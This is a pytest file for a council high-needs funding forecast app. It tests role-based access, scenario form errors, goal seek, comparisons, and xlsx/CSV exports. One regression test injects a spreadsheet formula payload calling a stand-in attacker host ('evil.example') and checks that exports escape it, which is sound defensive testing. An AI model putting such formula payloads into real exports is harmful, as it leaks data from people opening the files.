"""The forecast pages by role, the scenario form's messages, goal seek and exports."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from openpyxl import load_workbook

from highneeds.audit.models import AuditEvent
from highneeds.planning import exports
from highneeds.planning.charts import money
from highneeds.planning.models import Scenario

from .conftest import needs_data, settled

pytestmark = [pytest.mark.django_db, needs_data]
PASSWORD = "correct horse battery staple"


def signed_in(client, make_user, role):
    user = make_user(role)
    client.login(username=user.username, password=PASSWORD)
    return user


def text(response) -> str:
    return html.unescape(response.content.decode())


def form_data(base_year, **changes):
    data = {
        "name": "More places",
        "base": "casework",
        "base_year": str(base_year),
        "years": "5",
        "places-rows": "2",
        "places-1-places": "40",
        "places-1-need": "ASD",
        "places-1-phase": "secondary",
        "places-1-cost_per_place": "26000",
        "places-1-opening_year": str(base_year),
        "places-1-diverts_from": "independent_special",
        "places-2-diverts_from": "independent_special",
        "fewer_requests_value": "10",
        "fewer_requests_start": str(base_year + 1),
        "fewer_requests_ramp": "2",
        "allocation_growth": "3",
        "save": "1",
    }
    data.update(changes)
    return data


def test_the_lead_member_can_look_but_not_change(client, make_user, make_scenario):
    scenario = make_scenario(name="Safety valve", is_baseline=True)
    signed_in(client, make_user, "strategic_lead")
    overview = settled(client, "/planning/")
    assert overview.status_code == 200
    page = text(overview)
    assert 'role="img"' in page and "<title id=" in page and "<desc id=" in page
    assert "Forecast by year" in page and "Create a scenario" not in page
    assert settled(client, f"/planning/scenarios/{scenario.pk}/").status_code == 200
    assert client.get("/planning/scenarios/").status_code == 200
    assert client.get("/planning/scenarios/new/").status_code == 403
    assert client.get(f"/planning/scenarios/{scenario.pk}/edit/").status_code == 403
    assert client.post(f"/planning/scenarios/{scenario.pk}/delete/").status_code == 403
    assert Scenario.objects.filter(pk=scenario.pk).exists()


@pytest.mark.parametrize("role", ["caseworker", "parent", "professional"])
def test_other_roles_are_refused(client, make_user, make_scenario, role):
    scenario = make_scenario()
    signed_in(client, make_user, role)
    for path in (
        "/planning/",
        f"/planning/scenarios/{scenario.pk}/",
        f"/planning/scenarios/{scenario.pk}/export.xlsx",
        "/planning/compare/",
    ):
        assert client.get(path).status_code == 403, path


def test_no_child_is_named_anywhere(client, make_user, make_scenario, small_council):
    from highneeds.people.models import Child

    scenario = make_scenario()
    signed_in(client, make_user, "finance")
    names = list(Child.objects.values_list("first_name", flat=True))
    for path in ("/planning/", f"/planning/scenarios/{scenario.pk}/"):
        page = text(settled(client, path))
        assert not [n for n in names if n in page]


def test_finance_creates_a_scenario_through_the_form(client, make_user, small_council):
    finance = signed_in(client, make_user, "finance")
    assert client.get("/planning/scenarios/new/").status_code == 200
    response = client.post("/planning/scenarios/new/", form_data(small_council))
    scenario = Scenario.objects.get(name="More places")
    assert response.status_code == 302 and response["Location"] == f"/planning/scenarios/{scenario.pk}/"
    assert scenario.levers["new_places"] == [
        {
            "places": 40,
            "need": "ASD",
            "phase": "secondary",
            "cost_per_place": 26000.0,
            "opening_year": small_council,
            "diverts_from": "independent_special",
        }
    ]
    assert scenario.levers["fewer_requests"] == {"value": 0.1, "start_year": small_council + 1, "ramp_years": 2}
    assert scenario.allocation_growth == pytest.approx(0.03) and scenario.created_by == finance
    page = text(settled(client, response["Location"]))
    assert "Cost avoided" in page and "Deficit trajectory" in page
    # The edit form shows what was saved, with one empty row after the saved one.
    edit = text(client.get(f"/planning/scenarios/{scenario.pk}/edit/"))
    assert 'name="places-1-places" type="text" value="40"' in edit.replace("\n", " ") or 'value="40"' in edit
    assert 'name="places-rows" value="2"' in edit


def test_form_errors_name_the_field_and_the_row(client, make_user, small_council):
    signed_in(client, make_user, "finance")
    response = client.post(
        "/planning/scenarios/new/",
        form_data(
            small_council, name="", fewer_requests_value="150", **{"places-2-places": "12", "places-2-need": "SEMH"}
        ),
    )
    assert response.status_code == 200 and not Scenario.objects.exists()
    page = text(response)
    assert "There is a problem" in page and page.count("govuk-error-message") >= 4
    assert "Enter a name for the scenario" in page
    assert "Fewer requests for an EHC needs assessment must be 100 or less" in page
    assert "Enter the cost per place in new places row 2" in page
    assert "Choose the phase in new places row 2" in page
    assert "Enter the opening year in new places row 2" in page
    assert 'href="#id_places-2-cost_per_place"' in page and 'href="#id_fewer_requests_value"' in page
    assert "<title>Error:" in page
    # A lever without its first year, and a row with a place count that is not a number.
    page = text(
        client.post(
            "/planning/scenarios/new/", form_data(small_council, fewer_requests_start="", **{"places-1-places": "lots"})
        )
    )
    assert "Enter the first year of fewer requests for an EHC needs assessment" in page
    assert "New places row 1: number of places must be a whole number" in page


def test_add_another_row_keeps_what_was_typed(client, make_user, small_council):
    signed_in(client, make_user, "finance")
    data = form_data(small_council, name="Draft")
    data.pop("save")
    data["add_row"] = "1"
    page = text(client.post("/planning/scenarios/new/", data))
    assert not Scenario.objects.exists()
    assert 'name="places-rows" value="3"' in page and "New places row 3" in page
    assert "There is a problem" not in page


def test_scenario_page_shows_cost_avoided_against_the_levers_off(client, make_user, make_scenario):
    from highneeds.planning import engine_bridge as eb

    scenario = make_scenario(
        name="Fewer requests", levers={"fewer_requests": {"value": 0.3, "start_year": 2027, "ramp_years": 0}}
    )
    signed_in(client, make_user, "manager")
    page = text(settled(client, f"/planning/scenarios/{scenario.pk}/"))
    avoided = eb.cost_avoided(eb.baseline_for(scenario), eb.projection_for(scenario))
    assert sum(avoided) > 0
    total = re.search(r'id="cost-avoided-total"><span class="planning-money">([^<]+)<', page).group(1)
    assert total == money(sum(avoided))
    assert "Fewer requests for an EHC needs assessment" in page and "30.0%, from 2027" in page


def test_goal_seek_page(client, make_user, make_scenario):
    scenario = make_scenario(name="Starved", hnb_allocation=1)
    signed_in(client, make_user, "strategic_lead")
    page = text(
        client.post(
            f"/planning/scenarios/{scenario.pk}/goal-seek/",
            {"lever": "more_step_down", "target_year": str(scenario.base_year + 2)},
        )
    )
    assert "Not reachable in range" in page and "Save as a new scenario" not in page
    page = text(client.post(f"/planning/scenarios/{scenario.pk}/goal-seek/", {"lever": "", "target_year": "1999"}))
    assert "Select the lever to change" in page
    assert f"Year to reach in-year balance must be between {scenario.base_year + 1}" in page
    # Reached at once when the allocation is ample.
    rich = make_scenario(name="Rich", hnb_allocation=10**10)
    page = text(
        client.post(
            f"/planning/scenarios/{rich.pk}/goal-seek/",
            {"lever": "fewer_requests", "target_year": str(rich.base_year + 2)},
        )
    )
    assert "0.0%" in page and "is the smallest value" in page


def test_exports_are_real_workbooks_and_csv(client, make_user, make_scenario):
    scenario = make_scenario(
        name="Places",
        levers={
            "new_places": [
                {"places": 40, "need": "ASD", "phase": "secondary", "cost_per_place": 26000, "opening_year": 2026}
            ]
        },
        unit_costs={"independent_special": 65000},
    )
    finance = signed_in(client, make_user, "finance")
    settled(client, f"/planning/scenarios/{scenario.pk}/")  # the export is of the kept run the page showed
    response = client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx")
    assert response.status_code == 200 and 'filename="places.xlsx"' in response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == [
        "Summary",
        "DSG position",
        "Plans by setting",
        "Plans by need",
        "Levers and assumptions",
        "Cost avoided",
    ]
    position = wb["DSG position"]
    assert [c.value for c in position[1]][:5] == ["Scenario", "Year", "Financial year", "Allocation", "Spend P10"]
    first = [c for c in position[2]]
    assert first[0].value == "Places" and first[1].value == scenario.base_year + 1
    assert first[2].value == f"{scenario.base_year}-{(scenario.base_year + 1) % 100:02d}"
    assert isinstance(first[4].value, int) and first[4].number_format == exports.POUNDS
    assert position.max_row == 1 + scenario.years
    levers = [[c.value for c in row] for row in wb["Levers and assumptions"].iter_rows(min_row=2)]
    assert any(r[2] == 40 and "New in-area places" in r[1] for r in levers)
    assert any(r[2] == 65000 and "independent" in r[1] for r in levers)
    assert wb["Cost avoided"].cell(1, 6).value == "Cost avoided"
    assert wb["Cost avoided"].cell(2, 6).number_format == exports.POUNDS

    response = client.get(f"/planning/scenarios/{scenario.pk}/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(rows[0]) == exports.CSV_COLUMNS and len(rows) == scenario.years
    assert float(rows[0]["plans_p10"]) <= float(rows[0]["plans_p50"]) <= float(rows[0]["plans_p90"])
    assert AuditEvent.objects.filter(action="planning.export", actor_id=finance.pk).count() == 2
    assert client.get(f"/planning/scenarios/{scenario.pk}/export.pdf").status_code == 404


def test_statistical_neighbours(client, make_user, small_council):
    signed_in(client, make_user, "strategic_lead")
    page = text(client.get("/planning/neighbours/"))
    assert "Wakefield" in page and "This council" in page
    rows = re.findall(r'<tr class="govuk-table__row">\s*<th scope="row"', page)
    assert len(rows) >= 8  # Wakefield and most of its ten neighbours


def test_compare_two_scenarios(client, make_user, make_scenario):
    a = make_scenario(name="Alpha", allocation_growth=0.045)
    b = make_scenario(name="Beta", levers={"more_step_down": {"value": 0.05, "start_year": 2027, "ramp_years": 0}})
    signed_in(client, make_user, "strategic_lead")
    page = text(settled(client, f"/planning/compare/?scenarios={a.pk}&scenarios={b.pk}"))
    assert "Cost avoided" in page and "Alpha" in page and "Beta" in page and 'role="img"' in page
    alpha = re.search(r"Alpha</th>(.*?)</tr>", page, re.S).group(1)
    assert "4.5%" in alpha and "Allocation growth a year" in page  # each scenario's assumptions beside it
    assert "Choose 2 to 4 scenarios" in text(client.get(f"/planning/compare/?scenarios={a.pk}"))
    response = client.get(f"/planning/compare/export.xlsx?scenarios={a.pk}&scenarios={b.pk}")
    wb = load_workbook(io.BytesIO(response.content))
    names = {row[0].value for row in wb["DSG position"].iter_rows(min_row=2)}
    assert names == {"Alpha", "Beta"}
    assert client.get(f"/planning/compare/export.csv?scenarios={a.pk}").status_code == 404


def test_a_scenario_named_as_a_formula_exports_as_text(client, make_user, make_scenario):
    """Finding 5: the scenario name =HYPERLINK(...) became a live formula in the xlsx and the CSV."""
    name = '=HYPERLINK("http://evil.example/?leak","Open")'
    scenario = make_scenario(name=name)
    signed_in(client, make_user, "finance")
    settled(client, f"/planning/scenarios/{scenario.pk}/")
    wb = load_workbook(io.BytesIO(client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx").content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(c.data_type == "f" or c.value.startswith("=") for c in cells)
    assert wb["DSG position"].cell(2, 1).value == "'" + name
    rows = list(
        csv.DictReader(io.StringIO(client.get(f"/planning/scenarios/{scenario.pk}/export.csv").content.decode()))
    )
    assert rows[0]["scenario"] == "'" + name


def _by_setting_cells(page: str) -> list[str]:
    table = page[page.index('id="by-setting"') :]
    table = table[: table.index("</table>")]
    return re.findall(r'<td class="govuk-table__cell govuk-table__cell--numeric">([^<]*)</td>', table)


def test_plans_by_setting_are_protected_for_readers_who_cannot_open_every_record(client, make_user, make_scenario):
    """Finding 6: a first-year projection by setting is close to the children counted in casework (4 placed in
    independent special schools here)."""
    scenario = make_scenario(name="Small")
    signed_in(client, make_user, "manager")
    exact = _by_setting_cells(settled(client, f"/planning/scenarios/{scenario.pk}/").content.decode())
    assert any(0 < int(c.replace(",", "")) < 5 for c in exact if c.replace(",", "").isdigit())
    client.logout()
    signed_in(client, make_user, "finance")
    cells = _by_setting_cells(settled(client, f"/planning/scenarios/{scenario.pk}/").content.decode())
    assert "Not shown" in cells
    assert all(c == "Not shown" or int(c.replace(",", "")) % 5 == 0 for c in cells)
    wb = load_workbook(io.BytesIO(client.get(f"/planning/scenarios/{scenario.pk}/export.xlsx").content))
    values = [c.value for row in wb["Plans by setting"].iter_rows(min_row=2) for c in row[2:]]
    assert "Not shown" in values and all(v == "Not shown" or v % 5 == 0 for v in values)
